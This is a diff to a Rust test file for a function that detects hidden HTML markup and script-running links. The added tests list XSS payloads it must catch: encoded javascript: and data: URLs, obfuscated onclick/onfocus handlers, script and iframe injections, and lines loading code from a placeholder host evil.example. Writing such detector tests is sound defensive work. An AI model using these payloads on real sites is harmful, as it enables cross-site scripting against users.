@@ -33,6 +33,10 @@ fn ordinary_text_passes() {
         "`Vec<String>`, `HashMap<K, V>`, `a<b`",
         "write `<b>` for bold and `</p>` at the end, `<br/>` in between",
         "mail <jane@example.com> or see <https://example.com>",
+        "x<y and z<b and w>0, x<y, i<n-1 and w>0; if x<y, y<i and z>0",
+        "<mailto:help@shop.example?subject=Order> <https://shop.example/#/orders/id=7>",
+        "see [1]: > JavaScript:Expert",
+        "> quoted\n> a < b\n> I <3 you",
         "see <https://shop.example/?order=7> or <https://shop.example/page?a=1&b=2#c=d>",
         "std::vector<std::string> v",
         "Ali's onion=2, leek=3; Bob's onboard=yes",
@@ -153,6 +157,12 @@ fn links_that_run_something_are_found_however_they_are_written() {
         "jav&#x0A;ascript:name//",
         "data:application/xhtml+xml,x",
         "data: text/html,x",
+        "data: application/rss+xml;base64,PHg+",
+        "data:\napplication/rss+xml,x",
+        "data:image/x+xml;base64,x",
+        "javascript:0 ;eval (name)",
+        "javascript:0 ,import (\"//evil.example/x.js\")",
+        "javascript: alert (1)",
         "javascript:location.hash",
         "javascript:''+name",
         "javascript:1,name",
@@ -207,6 +217,44 @@ fn nothing_hides_behind_what_passes() {
             let text = format!("{before}{hidden}");
             assert!(find_markup(&text).is_some(), "{text}");
         }
+    }
+}
+
+/// Of entities and percent signs a page takes off one kind, not all of them at once.
+#[test]
+fn nothing_hides_behind_a_sign_that_only_ends_a_tag_here() {
+    for text in [
+        "&lt;x%3E tabindex=1 autofocus onfocus=alert(1)&gt;",
+        "&lt;x&amp;gt; tabindex=1 autofocus onfocus=alert(1)&gt;",
+        "%3Cx&gt; tabindex=1 autofocus onfocus=alert(1)%3E",
+        "a&quot; x%3E onclick=alert(1) y=&quot;",
+        "a&quot; x&amp;gt; onclick=alert(1) y=&quot;",
+        "&quot; x=%22 onclick=alert(1) y=&quot;",
+        "%22 &quot;onclick=alert(1) x=",
+        "&ltx&amp;gt; onclick=alert(1)>",
+    ] {
+        assert!(find_markup(text).is_some(), "{text}");
+    }
+}
+
+/// What Markdown takes for text, and what it takes no notice of.
+#[test]
+fn tags_are_found_however_markdown_reads_the_text() {
+    for text in [
+        "> <x\n> tabindex=1 autofocus onfocus=alert(1)>hi",
+        "> <jane\n> onclick=alert(1)>",
+        "a\n  > <x\n \t> > style=position:fixed>",
+        "</x <iframe>",
+        "</x\n<style>@import'//evil.example';",
+        "</x <script>alert(1)",
+        "</x <b>",
+        "<x a<script>",
+        "<https://a.example/?x=\"<script>alert(1)</script>\">",
+        "<https://a.example/?x='<iframe src=//evil.example>'>",
+        "<https://a.example/?x='<!--'>",
+        "<https://a.example/?x=<svg/onload=alert(1)>",
+    ] {
+        assert!(find_markup(text).is_some(), "{text}");
     }
 }
 
